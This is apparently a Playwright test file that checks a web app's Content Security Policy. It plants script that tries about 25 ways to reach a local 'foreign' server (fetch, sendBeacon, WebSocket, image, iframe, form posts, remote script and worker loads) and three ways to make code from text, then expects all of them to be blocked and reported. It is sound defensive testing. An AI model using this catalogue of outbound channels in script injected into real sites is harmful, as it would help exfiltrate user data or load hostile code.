import type { Server } from 'node:http';
import { hostForeign } from './support/hosted.ts';
import { expect, test } from './support/test.ts';

// The views that these tests end with are scanned by others.
test.use({ scan: false });

const servers: Server[] = [];

test.afterEach(() => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    server.close();
  }
});

test('[M16 SR-1 SR-7] planted code in the page reaches no other host, and is reported from every tab', async ({
  page,
  context,
  tenant,
  watch,
}) => {
  const { server, port, asked } = await hostForeign();
  servers.push(server);
  watch.declareErrors(/Content Security Policy|Trusted/);
  watch.declareLostConnections();
  await page.goto(tenant.appUrl);
  await expect(page.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible();

  await page.evaluate((host) => {
    const add = (tag: string, attributes: Readonly<Record<string, string>>) => {
      const element = document.createElement(tag);
      document.body.append(element);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      return element;
    };
    const attempts: readonly (() => unknown)[] = [
      () => fetch(`${host}/fetch`, { mode: 'no-cors' }),
      () => fetch(`${host}/keepalive`, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }),
      () => navigator.sendBeacon(`${host}/beacon`, 'x'),
      () => new WebSocket(`${host.replace('http', 'ws')}/socket`),
      () => new EventSource(`${host}/events`),
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', `${host}/xhr`);
        request.send('x');
      },
      () => add('img', { src: `${host}/img` }),
      () => add('img', { srcset: `${host}/srcset 1x` }),
      () => add('video', { src: `${host}/video`, preload: 'auto' }),
      () => add('iframe', { src: `${host}/iframe` }),
      () => add('object', { data: `${host}/object` }),
      () => add('embed', { src: `${host}/embed` }),
      () => add('link', { rel: 'stylesheet', href: `${host}/style.css` }),
      () => add('link', { rel: 'preload', as: 'image', href: `${host}/preload` }),
      () => add('link', { rel: 'prefetch', href: `${host}/prefetch` }),
      () => add('link', { rel: 'dns-prefetch', href: host }),
      () => add('link', { rel: 'preconnect', href: host }),
      () => add('link', { rel: 'modulepreload', href: `${host}/module.js` }),
      () => add('link', { rel: 'icon', href: `${host}/icon` }),
      () => add('div', { style: `background: url(${host}/inline-style)` }),
      () => add('script', { src: `${host}/script.js` }),
      () => add('base', { href: `${host}/` }),
      () => import(`${host}/import.js`),
      () => new Worker(`${host}/worker.js`),
      () => {
        const form = add('form', { action: `${host}/form`, method: 'post' });
        if (form instanceof HTMLFormElement) form.submit();
      },
    ];
    for (const attempt of attempts) {
      try {
        Promise.resolve(attempt()).catch(() => undefined);
      } catch {
        // Blocked at once, which is as good.
      }
    }
  }, `http://localhost:${port}`);

  // Code from text cannot be made at all.
  const made = await page.evaluate(() => {
    const ways = [
      () => Reflect.construct(Function, ['return 1'])(),
      () => {
        document.createElement('div').innerHTML = '<b>x</b>';
        return 1;
      },
      () => {
        const script = document.createElement('script');
        script.text = 'globalThis.planted = 1';
        document.body.append(script);
        return Reflect.get(globalThis, 'planted');
      },
    ];
    // Later, since what a test evaluates itself is exempt.
    return new Promise<unknown[]>((resolve) => {
      setTimeout(() => {
        const results = ways.map((way) => {
          try {
            return way();
          } catch (error) {
            return error instanceof Error ? error.name : 'an error';
          }
        });
        resolve(results);
      });
    });
  });
  expect(made.filter((result) => result === 1)).toEqual([]);

  // A page without the policy reaches that host at once: nothing of the above came before it.
  const free = await context.newPage();
  await free.goto(`http://localhost:${port}/control`);
  await expect.poll(() => asked).toContain('/control');
  expect(asked.filter((path) => !/^\/(control|favicon\.ico)$/.test(path))).toEqual([]);
  await free.close();
  const directives = new Set(watch.takeViolations().map((violation) => violation.split(':')[0]));
  expect([...directives]).toEqual(
    expect.arrayContaining(['connect-src', 'img-src', 'frame-src', 'form-action']),
  );
  await page.reload();

  // A violation in another tab of the same browser is seen as well.
  const tab = await context.newPage();
  await tab.goto(tenant.appUrl);
  await expect(tab.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible();
  await tab.evaluate(
    (host) => void new Image().setAttribute('src', `${host}/tab`),
    `http://localhost:${port}`,
  );
  await expect.poll(() => watch.takeViolations().join()).toContain('img-src');
  await tab.close();
});
